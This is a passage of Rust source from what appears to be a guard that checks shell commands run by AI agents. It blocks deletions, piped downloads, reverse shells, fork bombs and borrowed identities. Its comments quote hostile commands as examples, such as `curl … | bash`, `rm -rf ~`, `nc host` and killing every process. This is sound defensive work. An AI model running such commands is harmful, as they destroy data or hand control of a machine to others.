            "ssh" => self.ssh(args, text, depth),
            "su" | "runuser" | "sg" => self.switch_user(prog, args, stdin, text, depth),
            // `gdb --args prog …`, `lldb -- prog …`: the debugger runs the program.
            "gdb" | "cgdb" | "lldb" => {
                if let Some(i) = args.iter().position(|a| matches!(a.raw(), "--args" | "--")) {
                    self.argv(&args[i + 1..], stdin, text, depth)
                }
            }
            "docker" | "podman" if matches!(args.first().map(Arg::raw), Some("exec")) => {
                self.container_exec(&args[1..], stdin, text, depth)
            }
            "eval" => self.joined_code(without_dashes(args), text, depth),
            "source" | "." => self.source(args, stdin, text, depth),
            "trap" => self.code_arg(without_dashes(args).first(), text, depth),
            "mapfile" | "readarray" => self.mapfile(args, text, depth),
            p if SHELLS.contains(&p) => self.shell(args, stdin, text, depth),
            p if inline::interpreter(p).is_some() => self.interpreter(p, args, stdin, text, depth),
            "npx" | "bunx" | "pnpx" => self.npx(args, stdin, text, depth),
            "find" => self.find(args, text, depth),
            "git" => self.git_program(args, stdin, text, depth),
            "coord" => self.coord(args, text),
            "export" | "declare" | "typeset" | "readonly" if exports_identity(args) => self.add(
                [rules::Hit {
                    category: Category::PersonDecision,
                    operation: "borrowed_identity".into(),
                    action: Action::Block,
                    reason: "an agent acts as itself: exporting another identity for coord is refused".into(),
                }],
                text,
            ),
            // rmz deletes directories without being asked to recurse.
            "rmz" => {
                let mut with_r = vec![Arg::Lit("-r".into())];
                with_r.extend(self.reach(args));
                self.add(rules::rm(&with_r), text)
            }
            "rm" | "unlink" | "shred" => {
                // An empty operand names no file: `rm -rf "$d"` after `d=$(mktemp -d);`
                // deletes the new directory or nothing.
                let args: Vec<Arg> = args
                    .iter()
                    .map(|a| match self.or_empty.iter().find(|(raw, _)| raw == a.raw()) {
                        Some((_, value)) => Arg::Lit(value.clone()),
                        None => a.clone(),
                    })
                    .collect();
                let args = &self.reach(&args);
                self.add(rules::coord_state_write(prog, args), text);
                self.add(rules::rm(args), text)
            }
            _ => self.other_program(word, prog, args, stdin, text, depth),
        }
    }

    /// A program no arm above takes: its rules, and, run by name (not a script by its
    /// path, judged by its name above), its subcommand words where the registry does not
    /// know it.
    fn other_program(&mut self, word: &str, prog: &str, args: &[Arg], stdin: &Stdin, text: &str, depth: usize) {
        self.program(prog, args, stdin, text);
        if word.contains('/') || word.contains('.') || !verbs::unknown(self.patterns, prog) {
            return;
        }
        // `retry_with_backoff gh release create`, `xvfb-run rm -rf ~`: an unknown program
        // whose first word names a program most likely runs it. A word that only shares a
        // known program's name (`aiven service terminate`) finds nothing there, and the
        // subcommand words are read instead.
        if let Some(Arg::Lit(first)) = args.first()
            && verbs::names_program(self.patterns, first)
            && depth < walk::MAX_DEPTH
        {
            let before = self.findings.len();
            self.argv(args, stdin, text, depth + 1);
            if self.findings.len() > before {
                return;
            }
        }
        self.add(verbs::subcommand(prog, args), text);
    }

    /// `su [-] [USER] -c CODE`, `runuser -u USER -- cmd…`, `sg GROUP -c CODE` or
    /// `sg GROUP 'CODE'`: code anywhere among the arguments (`-c`, `-lc`, `--command=`).
    fn switch_user(&mut self, prog: &str, args: &[Arg], stdin: &Stdin, text: &str, depth: usize) {
        let user_mode = |a: &Arg| matches!(a.raw(), "-u" | "--user") || a.raw().starts_with("--user=");
        if prog == "runuser" && args.iter().take_while(|a| a.raw() != "--").any(user_mode) {
            // `runuser -u USER [--] cmd…`: a command, whose options are its own.
            let values = ["-u", "--user", "-g", "--group", "-G", "--supp-group", "-w"];
            return self.wrapped(args, &values, stdin, text, depth);
        }
        // Every code option is judged (`su --command 'echo' --command reboot`: the last runs).
        let mut code_given = false;
        for (i, a) in args.iter().enumerate().take_while(|(_, a)| a.raw() != "--") {
            let raw = a.raw();
            if let Some(code) = raw
                .strip_prefix("--command=")
                .or_else(|| raw.strip_prefix("--session-command="))
            {
                let code = match a {
                    Arg::Lit(_) => Arg::Lit(code.into()),
                    Arg::Unknown(_) => Arg::Unknown(code.into()),
                };
                self.code_arg(Some(&code), text, depth);
                code_given = true;
                continue;
            }
            let bundle = raw.len() > 1 && !raw.starts_with("--") && raw[1..].chars().all(|c| c.is_ascii_alphabetic());
            if matches!(raw, "--command" | "--session-command")
                || (raw.starts_with('-') && bundle && raw.ends_with('c'))
            {
                self.code_arg(args.get(i + 1), text, depth);
                code_given = true;
            }
        }
        if code_given {
            return;
        }
        // sg hands the rest to `sh -c`; su and runuser without `-c` start a login shell.
        if prog == "sg" {
            let rest = without_dashes(args);
            self.joined_code(rest.get(1..).unwrap_or_default(), text, depth)
        }
    }

    /// `flock [-w SECS] LOCK -c CODE` or `flock [opts] LOCK cmd…`.
    fn flock(&mut self, args: &[Arg], stdin: &Stdin, text: &str, depth: usize) {
        let rest = skip_options(args, &["-w", "--timeout", "-E", "--conflict-exit-code"]);
        if let Some(i) = rest.iter().position(|a| matches!(a.raw(), "-c" | "--command")) {
            return self.code_arg(rest.get(i + 1), text, depth);
        }
        self.after_operands(rest, 1, stdin, text, depth)
    }

    /// The `command` builtin: `command -v`/`-V` only looks a name up; otherwise it runs
    /// the rest of its arguments.
    fn command_builtin(&mut self, args: &[Arg], stdin: &Stdin, text: &str, depth: usize) {
        if args.iter().any(|a| matches!(a.raw(), "-v" | "-V")) {
            return;
        }
        self.wrapped(args, &[], stdin, text, depth)
    }

    /// `env [opts] [NAME=value…] cmd…`, or `env -S 'CODE'`.
    fn env(&mut self, args: &[Arg], stdin: &Stdin, text: &str, depth: usize) {
        let mut i = 0;
        while i < args.len() {
            let raw = args[i].raw();
            if matches!(raw, "-C" | "--chdir") || raw.starts_with("--chdir=") {
                // Somewhere else: relative paths as written, not from this line's `cd`.
                self.cwd = None;
                i += if raw.contains('=') { 1 } else { 2 };
            } else if matches!(raw, "-u" | "--unset") {
                i += 2;
            } else if let Some((split, next)) = split_string(args, i) {
                // `env -S 'A=1 cmd -x' more…`: the string's words, then the rest, are
                // env's arguments again. Quotes, escapes and `${…}` are env's own syntax
                // there: such a string is refused as code only known at run time.
                let plain = split.lit().is_some_and(|t| !t.contains(['\'', '"', '\\', '$']));
                if !plain || depth >= walk::MAX_DEPTH {
                    return self.add(
                        [unverifiable(
                            "dynamic_code",
                            format!(
                                "env -S `{}` splits its string by rules of its own; write the command itself",
                                split.raw()
                            ),
                        )],
                        text,
                    );
                }
                let mut again: Vec<Arg> = split
                    .raw()
                    .split_whitespace()
                    .map(|w| Arg::Lit(w.to_string()))
                    .collect();
                again.extend(args.get(next..).unwrap_or_default().iter().cloned());
                return self.env(&again, stdin, text, depth + 1);
            } else if raw.starts_with('-') || is_assignment(raw) {
                if let Some((name, value)) = raw.split_once('=').filter(|_| is_assignment(raw)) {
                    let value = args[i].lit().map(|_| value.to_string());
                    self.env.push((name.to_string(), value));
                }
                i += 1;
            } else {
                break;
            }
        }
        self.argv(args.get(i..).unwrap_or_default(), stdin, text, depth)
    }

    /// `xargs cmd…` (with a run-time operand appended) and GNU `parallel cmd… ::: …`.
    fn xargs(&mut self, prog: &str, args: &[Arg], stdin: &Stdin, text: &str, depth: usize) {
        let mut rest: Vec<Arg> = skip_options(
            args,
            &[
                // (-i, -e and -l take their value attached, if any.)
                "-I",
                "-n",
                "-P",
                "-L",
                "-d",
                "-E",
                "-s",
                "-a",
                "--max-args",
                "--max-procs",
                "--delimiter",
                "--arg-file",
                "-j",
                "--jobs",
            ],
        )
        .iter()
        .take_while(|a| a.raw() != ":::")
        .cloned()
        .collect();
        if rest.is_empty() {
            return; // xargs alone runs echo
        }
        let hole = format!("\"{}\"", walk::RUNTIME_HOLE);
        if prog == "parallel" {
            // `parallel CMD ::: a b c`: a few plain inputs, each in place of `{}`.
            if let Some(inputs) = parallel_inputs(args) {
                for input in inputs {
                    let code: Vec<Arg> = rest
                        .iter()
                        .map(|a| match a {
                            Arg::Lit(s) if s.contains("{}") => Arg::Lit(s.replace("{}", &input)),
                            other => other.clone(),
                        })
                        .chain((!rest.iter().any(|a| a.raw().contains("{}"))).then(|| Arg::Lit(input.clone())))
                        .collect();
                    self.joined_code(&code, text, depth);
                }
                return;
            }
            // GNU parallel runs its command through a shell, `{}` being each input.
            let hole = hole.as_str();
            let mut code: Vec<Arg> = rest
                .iter()
                .map(|a| match a {
                    Arg::Lit(s) => Arg::Lit(s.replace("{}", hole)),
                    other => other.clone(),
                })
                .collect();
            if !rest.iter().any(|a| a.raw().contains("{}")) {
                code.push(Arg::Lit(hole.into()));
            }
            return self.joined_code(&code, text, depth);
        }
        // `xargs -I R cmd … R …`: each input line replaces R; otherwise the input lines
        // are appended. In code for a shell (`sh -c 'nc host {}'`) the line is pasted in
        // unquoted, so it is code only known at run time (GNU parallel quotes it).
        match xargs_replace(args) {
            Some(r) => {
                let shell = rest.first().and_then(Arg::lit).map(program).unwrap_or_default();
                let shell = SHELLS.contains(&shell);
                let mut pasted = false;
                for (i, a) in rest.iter_mut().enumerate() {
                    if let Arg::Lit(s) = a
                        && s.contains(&r)
                    {
                        if shell && i > 0 && s != &r {
                            // Walked as a variable too, for what else the code does.
                            pasted = true;
                            *s = s.replace(&r, &hole);
                        } else {
                            // The input inside a word (`build/{}`) is any path too.
                            *a = Arg::Unknown(RUNTIME_OPERAND.into());
                        }
                    }
                }
                if pasted {
                    let reason = format!(
                        "xargs pastes each input line into the shell code unquoted, so what runs is only known at \
                         run time; pass each line as an argument instead (xargs -I{r} sh -c '… \"$1\" …' _ {r})"
                    );
                    self.add([unverifiable("dynamic_code", reason)], text);
                }
            }
            // A process listing with init in it, handed to `kill`: PID 1 among them.
            None if *stdin == Stdin::Processes && command_program(&rest) == Some("kill") => {
                rest.push(Arg::Lit("1".into()))
            }
            // `find . -name __pycache__ | xargs rm -rf`: as `find … -exec rm -rf {} +`, the
            // deletion of build leftovers below the project.
            None if *stdin == Stdin::Leftovers
                && plain_xargs(args)
                && matches!(command_program(&rest), Some("rm" | "unlink"))
                && rest[1..].iter().all(|a| a.lit().is_some_and(|r| r.starts_with('-'))) =>
            {
                return;
            }
            None => rest.push(Arg::Unknown(RUNTIME_OPERAND.into())),
        }
        self.argv(&rest, &Stdin::Inherited, text, depth)
    }

    /// `ssh [opts] HOST CMD…`: the command runs as shell code on the host.
    fn ssh(&mut self, args: &[Arg], text: &str, depth: usize) {
        let rest = skip_options(
            args,
            &[
                "-p", "-i", "-o", "-l", "-J", "-F", "-L", "-R", "-D", "-b", "-c", "-E", "-e", "-m", "-O", "-Q", "-S",
                "-W", "-w", "-B", "-I",
            ],
        );
        if rest.len() > 1 {
            self.joined_code(&rest[1..], text, depth);
        }
    }

    /// `docker exec`/`podman exec` with `args` after `exec`: `[opts] CONTAINER cmd…`.
    fn container_exec(&mut self, args: &[Arg], stdin: &Stdin, text: &str, depth: usize) {
        let rest = skip_options(args, &["-e", "--env", "-u", "--user", "-w", "--workdir", "--env-file"]);
        self.after_operands(rest, 1, stdin, text, depth)
    }

    /// `npx`, `bunx`, `pnpx`: the package's command, or a shell string.
    fn npx(&mut self, args: &[Arg], stdin: &Stdin, text: &str, depth: usize) {
        // `npx -c 'cmd'` runs a shell string; a `-c` after the command is the command's
        // own option (`npx wrangler deploy -c wrangler.toml`).
        let mut i = 0;
        while let Some(a) = args.get(i) {
            match a.raw() {
                "-c" | "--call" => return self.code_arg(args.get(i + 1), text, depth),
                raw if raw.starts_with("--call=") => {
                    return self.code_arg(Some(&Arg::Lit(raw["--call=".len()..].to_string())), text, depth);
                }
                "-p" | "--package" => i += 2,
                raw if raw.starts_with('-') => i += 1,
                _ => break,
            }
        }
        self.wrapped(args, &["-p", "--package"], stdin, text, depth)
    }

    /// `find … -delete`, and the commands its `-exec`s run.
    fn find(&mut self, args: &[Arg], text: &str, depth: usize) {
        // The starting points (before the first option or expression) as reached.
        let starts = args
            .iter()
            .take_while(|a| !a.raw().starts_with(['-', '(', '!']))
            .count();
        // `find . -${t}exec …`: an expression word only known at run time where a test or
        // action would be (not a test's value: `-mtime -${days}`).
        let dynamic_expression = args.iter().enumerate().skip(starts).any(|(i, a)| {
            matches!(a, Arg::Unknown(raw) if raw.starts_with('-'))
                && (i == starts || !args[i - 1].raw().starts_with('-'))
        });
        if dynamic_expression {
            self.add(
                [unverifiable(
                    "dynamic_command",
                    "a find test or action only known at run time; write it out",
                )],
                text,
            );
        }
        let mut args = args.to_vec();
        let reached = self.reach(&args[..starts]);
        args.splice(..starts, reached);
        let f = rules::find(&args);
        let hit = rules::find_delete(&f);
        self.add(hit, text);
        self.writes(&f.writes, text);
        let leftovers = rules::leftovers_only(&f);
        for cmd in &f.execs {
            // `-exec rm -f {} +` over build leftovers: the deletion is what find_delete
            // judged (an rm of anything else is judged as itself).
            let removes = cmd
                .first()
                .and_then(Arg::lit)
                .is_some_and(|p| matches!(program(p), "rm" | "unlink"))
                && cmd[1..]
                    .iter()
                    .all(|a| a.raw() == RUNTIME_OPERAND || a.lit().is_some_and(|r| r.starts_with('-')));
            if !(leftovers && removes) {
                self.argv(cmd, &Stdin::Inherited, text, depth);
            }
        }
    }

    /// `git …` as a program: the shell commands its `-c` configuration runs, then [`Self::git`].
    fn git_program(&mut self, args: &[Arg], stdin: &Stdin, text: &str, depth: usize) {
        // Settings given through the environment (`GIT_CONFIG_KEY_0=gc.reflogExpire
        // GIT_CONFIG_VALUE_0=now git gc`) are judged as the `-c` settings they are.
        let given = rules::git_env_settings(&self.env);
        let args: &[Arg] = &given.into_iter().chain(args.iter().cloned()).collect::<Vec<_>>();
        // `git -c 'alias.x=!cmd' x`, `-c core.sshCommand=cmd`, ...: configuration
        // that runs a shell command.
        for pair in args.windows(2).filter(|w| w[0].raw() == "-c") {
            match &pair[1] {
                Arg::Lit(kv) => {
                    if let Some(code) = rules::git_config_command(kv) {
                        self.script(code, depth + 1);
                    }
                }
                Arg::Unknown(raw) => self.add(
                    [unverifiable(
                        "dynamic_git_command",
                        format!("the git configuration `{raw}` is only known at run time"),
                    )],
                    text,
                ),
            }
        }
        self.git(args, stdin, text, depth)
    }

    /// `coord …`: an identity borrowed in the command line, then coord's rule.
    fn coord(&mut self, args: &[Arg], text: &str) {
        // Who the command runs as, written into it: another agent's identity.
        let assigned = text.split_whitespace().any(|w| {
            ["COORD_AGENT_ID=", "COORD_AGENT_TYPE=", "AGENT_TYPE="]
                .iter()
                .any(|a| w.trim_start_matches(['\'', '"']).starts_with(a))
        });
        if assigned {
            self.add(
                [rules::Hit {
                    category: Category::PersonDecision,
                    operation: "borrowed_identity".into(),
                    action: Action::Block,
                    reason: "an agent acts as itself: an identity written into the command is another's".into(),
                }],
                text,
            );
        }
        self.add(rules::coord(args), text)
    }

    /// Any other program: what it writes (coord's state, devices, credentials), the argv
    /// patterns, and the SQL it is given (as an argument or, for a database client, on stdin).
    fn program(&mut self, prog: &str, args: &[Arg], stdin: &Stdin, text: &str) {
        self.add(rules::coord_state_write(prog, args), text);
        let written = rules::written_files(prog, args);
        self.writes(&written, text);
        self.writes(&rules::output_files(prog, args), text);
        for dir in self.reach(&rules::trees_into(prog, args)) {
            if let Arg::Lit(dir) = dir {
                self.add(rules::machine_write_under(&dir), text);
            }
        }
        // What a file loses: `truncate` empties its files, `mv` takes its sources away
        // (judged as deleting them where they are the machine's or the home's).
        let lost = rules::emptied_or_moved(prog, args);
        if !lost.is_empty() {
            self.add(rules::rm(&rules::missed(prog, self.reach(&lost))), text);
        }
        // `kill -9 $(ps -e -o pid=)`: every PID the listing prints, init among them (each
        // argument walked once, and only for kill).
        if prog == "kill" {
            let pids: Vec<Arg> = args
                .iter()
                .map(|a| match a {
                    Arg::Unknown(raw) if walk::lists_init(raw) => Arg::Lit("1".into()),
                    other => other.clone(),
                })
                .collect();
            self.add(rules::kill(prog, &pids), text);
        } else {
            self.add(rules::kill(prog, args), text);
        }
        self.add(rules::permissions(prog, &self.reach(args)), text);
        self.add(self.patterns.check(prog, args), text);
        self.add(sed::sed(prog, args), text);
        for sql in rules::sql_of(prog, args) {
            match sql {
                Arg::Lit(s) => self.add(sql::analyze(&s, prog, false), text),
                Arg::Unknown(raw) => self.add(
                    [unverifiable(
                        "dynamic_sql",
                        format!("the SQL `{raw}` is only known at run time"),
                    )],
                    text,
                ),
            }
        }
        if matches!(prog, "psql" | "mysql" | "mariadb" | "sqlite3" | "clickhouse-client") {
            match stdin {
                Stdin::Text(s) => self.add(sql::analyze(s, prog, false), text),
                Stdin::Pipe | Stdin::Processes | Stdin::Leftovers | Stdin::Unknown => self.add(
                    [unverifiable("dynamic_sql", "a database client reading SQL from a pipe runs statements only known at run time; pass them with -c")],
                    text,
                ),
                // `mysql db < FILE`: as `-f FILE` (a migrations file by its name), and by
                // what the file holds.
                Stdin::File(Arg::Lit(path)) => {
                    let as_option = [Arg::Lit("-f".into()), Arg::Lit(path.clone())];
                    self.add(self.patterns.check(prog, &as_option), text);
                    self.sql_file(prog, path, text)
                }
                Stdin::Inherited | Stdin::File(Arg::Unknown(_)) => {}
            }
        }
        if prog == "psql" {
            for path in rules::psql_files(args) {
                self.sql_file(prog, &path, text);
            }
        }
    }

    /// `sudo [opts] cmd…`; `sudo -e FILE…` (sudoedit) edits the files, as root; `sudo -l`,
    /// `-K`, `-V` and doas's `-L` run nothing; `sudo -s`/`-i` without a command is a shell
    /// reading its input.
    fn sudo(&mut self, args: &[Arg], stdin: &Stdin, text: &str, depth: usize) {
        const VALUES: &[&str] = &[
            "-u",
            "-g",
            "-C",
            "-D",
            "-h",
            "-p",
            "-r",
            "-t",
            "-U",
            "-T",
            "--user",
            "--group",
            "--prompt",
            "--chdir",
            "--host",
            "--role",
            "--type",
            "--other-user",
            "--close-from",
            "--command-timeout",
            "--description",
        ];
        let (letters, long, rest) = sudo_options(args, VALUES);
        let has = |c: char, name: &str| letters.contains(c) || long.contains(&name);
        if has('l', "--list") || has('K', "--remove-timestamp") || has('V', "--version") || letters.contains('L') {
            return;
        }
        if has('e', "--edit") {
            return self.writes(rest, text);
        }
        if (has('s', "--shell") || has('i', "--login")) && rest.is_empty() {
            return self.shell(&[], stdin, text, depth);
        }
        self.wrapped(args, VALUES, stdin, text, depth)
    }

    /// A wrapper whose options (those in `value_options` take a value) and environment
    /// assignments (`sudo VAR=x cmd`) precede the command.
    fn wrapped(&mut self, args: &[Arg], value_options: &[&str], stdin: &Stdin, text: &str, depth: usize) {
        // `sudo -D DIR`, `systemd-run --working-directory=DIR`: somewhere else.
        let moves = |a: &Arg| {
            let raw = a.raw();
            matches!(raw, "-D" | "--chdir" | "--working-directory")
                || raw.starts_with("--chdir=")
                || raw.starts_with("--working-directory=")
        };
        if args.iter().any(moves) {
            self.cwd = None;
        }
        let rest = skip_options(args, value_options);
        let first_command = rest.iter().position(|a| !is_assignment(a.raw())).unwrap_or(rest.len());
        self.argv(&rest[first_command..], stdin, text, depth);
    }

    /// A wrapper with `n` operands before the command (`timeout DURATION cmd`).
    fn after_operands(&mut self, args: &[Arg], n: usize, stdin: &Stdin, text: &str, depth: usize) {
        if args.len() > n {
            self.argv(&args[n..], stdin, text, depth);
        }
    }

    /// One argument holding shell code (`sh -c CODE`, `trap CODE`, `su -c CODE`).
    fn code_arg(&mut self, code: Option<&Arg>, text: &str, depth: usize) {
        match code {
            Some(Arg::Lit(s)) => self.script(s, depth + 1),
            Some(Arg::Unknown(raw)) => self.add(
                [unverifiable(
                    "dynamic_code",
                    format!("the code `{raw}` is only known at run time"),
                )],
                text,
            ),
            None => {}
        }
    }

    /// `mapfile -C CODE`: bash runs the code with a line's index and the line as its
    /// arguments.
    fn mapfile(&mut self, args: &[Arg], text: &str, depth: usize) {
        match builtins::mapfile_callback(args) {
            Ok(None) => {}
            Ok(Some(code)) => self.script(&format!("{} 0 \"$__line\"", code.raw()), depth + 1),
            Err(()) => self.add(
                [unverifiable(
                    "dynamic_code",
                    "the code `mapfile -C` calls back is only known at run time",
                )],
                text,
            ),
        }
    }

    /// Arguments joined with spaces and run as shell code (`eval`, `ssh host CMD`, `watch`).
    fn joined_code(&mut self, args: &[Arg], text: &str, depth: usize) {
        if args.is_empty() {
            return;
        }
        if let Some(unknown) = args.iter().find(|a| a.lit().is_none()) {
            return self.add(
                [unverifiable(
                    "dynamic_code",
                    format!("the code `{}` is only known at run time", unknown.raw()),
                )],
                text,
            );
        }
        let code = args.iter().map(Arg::raw).collect::<Vec<_>>().join(" ");
        self.script(&code, depth + 1);
    }

    /// `bash [-opts] -c CODE`, `bash script.sh`, or a shell reading its script on stdin.
    /// `source FILE`, `. FILE`: code for the current shell. A file only known at run
    /// time (`source <(curl …)`) is refused; one this line wrote is judged by what it
    /// wrote; another by its name (its code, when the repository's files were sent).
    fn source(&mut self, args: &[Arg], stdin: &Stdin, text: &str, depth: usize) {
        let args = without_dashes(args);
        match args.first() {
            // `… | source` (fish), `… | source /dev/stdin`: code from the pipe.
            None | Some(Arg::Lit(_))
                if stdin.from_run_time() && args.first().is_none_or(|a| walk::STDIN_DEVICES.contains(&a.raw())) =>
            {
                self.add(
                [unverifiable(
                    "dynamic_code",
                    "`source` runs the code piped into it, only known at run time; save it to a file and read it first",
                )],
                text,
            )
            }
            Some(Arg::Unknown(raw)) => self.add(
                [unverifiable(
                    "dynamic_code",
                    format!(
                        "`source {raw}` runs code only known at run time (a download, a substitution); save it to \
                         a file and read it first"
                    ),
                )],
                text,
            ),
            Some(Arg::Lit(path)) if !self.written_here(path, text, depth) => {
                self.script_by_name(path, &args[1..], text);
            }
            _ => {}
        }
    }

    fn shell(&mut self, args: &[Arg], stdin: &Stdin, text: &str, depth: usize) {
        let mut i = 0;
        let mut reads_code_arg = false;
        let mut reads_stdin = false;
        // `sh -n script.sh`, `zsh -n "$f"`: read, checked, not run (unless interactive,
        // where -n is ignored).
        let (mut noexec, mut interactive, mut prints_only) = (false, false, false);
        while i < args.len() {
            let raw = args[i].raw();
            if matches!(raw, "--rcfile" | "--init-file" | "-O" | "+O" | "-o" | "+o") {
                noexec |= raw == "-o" && args.get(i + 1).is_some_and(|v| v.raw() == "noexec");
                i += 2;
                continue;
            }
            if raw == "--" {
                i += 1;
                break;
            }
            if raw == "-" {
                reads_stdin = true;
                break;
            }
            if raw.starts_with('-') && !raw.starts_with("--") && raw.len() > 1 {
                reads_code_arg |= raw.contains('c');
                reads_stdin |= raw.contains('s');
                noexec |= raw.contains('n');
                interactive |= raw.contains('i');
                i += 1;
                continue;
            }
            // `bash --version`, `bash --help`: print and exit (an option word, not the value
            // of `--rcfile`, skipped above).
            prints_only |= matches!(raw, "--version" | "--help");
            if raw.starts_with("--") || (raw.starts_with('+') && raw.len() > 1) {
                i += 1; // long options, and `+x`-style options turned off
                continue;
            }
            break;
        }
        if (noexec && !interactive) || prints_only {
            return;
        }
        let piped = stdin.from_run_time();
        let names_stdin = |t: &str| walk::STDIN_DEVICES.iter().any(|s| t.contains(s));
        if reads_code_arg {
            // `curl … | bash -c 'source /dev/stdin'`: the code runs what the pipe brings.
            if piped && args.get(i).is_some_and(|c| names_stdin(c.raw())) {
                return self.add(
                    [unverifiable(
                        "dynamic_code",
                        "the shell's code reads more code from the pipe, only known at run time",
                    )],
                    text,
                );
            }
            return self.code_arg(args.get(i), text, depth);
        }
        // `curl … | bash /dev/stdin`: the script is the pipe.
        let stdin_script = args.get(i).and_then(Arg::lit).is_some_and(names_stdin);
        match args.get(i) {
            // `sh -s -- args`: the script is on stdin, the words are its parameters.
            _ if reads_stdin || stdin_script => {}
            // `bash <(curl …)`, `bash "$SCRIPT"`: a script only known at run time.
            Some(Arg::Unknown(raw)) => {
                return self.add(
                    [unverifiable(
                        "dynamic_code",
                        format!("the script `{raw}` is only known at run time"),
                    )],
                    text,
                );
            }
            // A script file: its code when the repository holds it, else its name.
            Some(Arg::Lit(path)) => {
                if !self.written_here(path, text, depth) && !self.script_file(path, text, depth) {
                    self.script_by_name(path, &args[i + 1..], text);
                }
                return;
            }
            None => {}
        }
        match stdin {
            Stdin::Text(code) => self.script(code, depth + 1),
            Stdin::Pipe | Stdin::Processes | Stdin::Leftovers | Stdin::Unknown | Stdin::File(Arg::Unknown(_)) => self.add(
                [unverifiable(
                    "dynamic_code",
                    "a shell reading its commands from a pipe or an expanding here-document runs code only known at run time",
                )],
                text,
            ),
            // `bash < scripts/x.sh`: the script, as `bash scripts/x.sh`.
            Stdin::File(Arg::Lit(path)) => {
                if !self.written_here(path, text, depth) && !self.script_file(path, text, depth) {
                    self.script_by_name(path, &[], text);
                }
            }
            Stdin::Inherited => {}
        }
    }
}

impl Analyzer<'_> {
    /// `python -c CODE`, `node -e CODE`, or an interpreter reading its program on stdin:
    /// what the code runs and what it deletes (see [`inline`]).
    fn interpreter(&mut self, prog: &str, args: &[Arg], stdin: &Stdin, text: &str, depth: usize) {
        // `python manage.py migrate`, `python -m alembic upgrade`: patterns of their own;
        // `perl -pi -e … .env` edits files in place.
        self.add(self.patterns.check(prog, args), text);

        self.writes(&rules::written_files(prog, args), text);
        let Some(it) = inline::interpreter(prog) else { return };
        let (code, reads_stdin) = match inline_code(&it, args) {
            Ok(found) => found,
            Err(raw) => {
                return self.add(
                    [unverifiable(
                        "dynamic_code",
                        format!("the {prog} code `{raw}` is only known at run time"),
                    )],
                    text,
                );
            }
        };
        // `curl -o get-pip.py URL && python3 get-pip.py`: a script the line downloaded.
        let script = args.iter().find(|a| !a.raw().starts_with('-')).and_then(Arg::lit);
        if code.is_none()
            && !reads_stdin
            && let Some(path) = script
            && matches!(
                self.written.get(written_key(path)),
                Some(Written::Unknown | Written::Downloaded)
            )
        {
            self.written_here(path, text, depth);
            return;
        }
        let code = match code {
            Some(code) => code,
            None if reads_stdin => match stdin {
                Stdin::Text(code) => code.clone(),
                Stdin::Pipe | Stdin::Processes | Stdin::Leftovers | Stdin::Unknown => {
                    return self.add(
                        [unverifiable(
                            "dynamic_code",
                            format!("{prog} reading its program from a pipe runs code only known at run time"),
                        )],
                        text,
                    );
                }
                Stdin::File(f) => {
                    return self.add(rules::shipping_script(f.raw(), &[]), text);
                }
                Stdin::Inherited => return,
            },
            None => return,
        };
        let fx = match inline::effects(&code, it.lang) {
            Ok(fx) => fx,
            Err(inline::Unreadable(why)) => {
                return self.add(
                    [unverifiable(
                        "unreadable_code",
                        format!("the {prog} code could not be read ({why})"),
                    )],
                    text,
                );
            }
        };
        for line in &fx.shell {
            self.script(line, depth + 1);
        }
        for argv in &fx.argvs {
            self.argv(argv, &Stdin::Inherited, text, depth + 1);
        }
        // A socket (or descriptors pointed elsewhere) and a shell that reads its commands
        // from its input: the shell talks to the socket.
        let interactive =
            |words: &[&str]| words.first().is_some_and(|w| SHELLS.contains(&program(w))) && !words.contains(&"-c");
        let starts_shell = fx.argvs.iter().any(|argv| {
            let words: Vec<&str> = argv.iter().map(Arg::raw).collect();
            interactive(&words)
        }) || fx
            .shell
            .iter()
            .any(|line| interactive(&line.split_whitespace().collect::<Vec<_>>()));
        if starts_shell && (fx.mentions_socket || fx.redirects_descriptors) {
            self.add(
                [rules::reverse_shell_hit(&format!(
                    "{prog} code that opens a connection (or points its descriptors elsewhere) and starts a shell reading its input"
                ))],
                text,
            );
        }
        // A fork in a loop without end, or in any loop with no way out for the children:
        // each pass doubles them.
        if fx.forks_forever || (fx.forks_in_loop && !fx.exits) {
            self.add(
                [rules::fork_bomb_hit(&format!(
                    "{prog} code that forks in a loop, its children looping on"
                ))],
                text,
            );
        }
        for argv in &fx.deletions {
            self.add(rules::rm(argv), text);
        }
    }
}

/// Whether the command is an `exec` that runs nothing (its redirections then stay for the
/// rest of the shell): `exec`, `exec --`, `exec -a name`, `command exec`, and `exec {fd}<>…`
/// (whose `{fd}` is read as a word).
/// Whether a command word recalls the shell's history: an event (`!!`, `!-2`, `!42`,
/// `!make`, `!:-`), a quick substitution (`^a^b`), or `fc` re-running one (not `fc -l`,
/// which lists).
fn history(word: &str, args: &[Arg]) -> bool {
    // (`:p` only prints what it would run.)
    if word.ends_with(":p") {
        return false;
    }
    let event = word.len() > 1 && word.starts_with('!') && !word.starts_with("!(");
    let quick = word.len() > 2 && word.starts_with('^') && word[1..].contains('^');
    let fc = word == "fc" && !args.iter().any(|a| a.raw().starts_with('-') && a.raw().contains('l'));
    event || quick || fc
}

/// sudo's (or doas's, run0's) option letters and long options, read as sudo reads them
/// (a letter that takes a value ends its bundle; `VALUES` take the next word), and what
/// follows them.
fn sudo_options<'a>(args: &'a [Arg], values: &[&str]) -> (String, Vec<&'a str>, &'a [Arg]) {
    const VALUE_LETTERS: &str = "ugCDhprtUT";
    let (mut letters, mut long, mut i) = (String::new(), Vec::new(), 0);
    while let Some(a) = args.get(i) {
        let raw = a.raw();
        i += 1;
        if raw == "--" || !raw.starts_with('-') || raw == "-" {
            if raw != "--" {
                i -= 1;
            }
            break;
        }
        if let Some(name) = raw.strip_prefix("--") {
            let name = name.split('=').next().unwrap_or(name);
            long.push(&raw[..name.len() + 2]);
            if !raw.contains('=') && values.contains(&&raw[..name.len() + 2]) {
                i += 1;
            }
            continue;
        }
        for (k, c) in raw[1..].char_indices() {
            letters.push(c);
            if VALUE_LETTERS.contains(c) {
                // The rest of the word is the value, or the next word is.
                if k + c.len_utf8() == raw.len() - 1 {
                    i += 1;
                }
                break;
            }
        }
    }
    (letters, long, args.get(i..).unwrap_or_default())
}

/// Whether xargs's options before its `rm` only split its input as find prints it: `-0`,
/// `-r`, `-n N`, `-P N` and their long forms (not `-a FILE`, `-d DELIM`, `--arg=…`).
fn plain_xargs(args: &[Arg]) -> bool {
    let mut words = args
        .iter()
        .map(Arg::raw)
        .take_while(|w| !matches!(program(w), "rm" | "unlink"));
    while let Some(w) = words.next() {
        match w {
            "-0" | "--null" | "-r" | "--no-run-if-empty" | "-0r" | "-r0" | "-t" | "--verbose" => {}
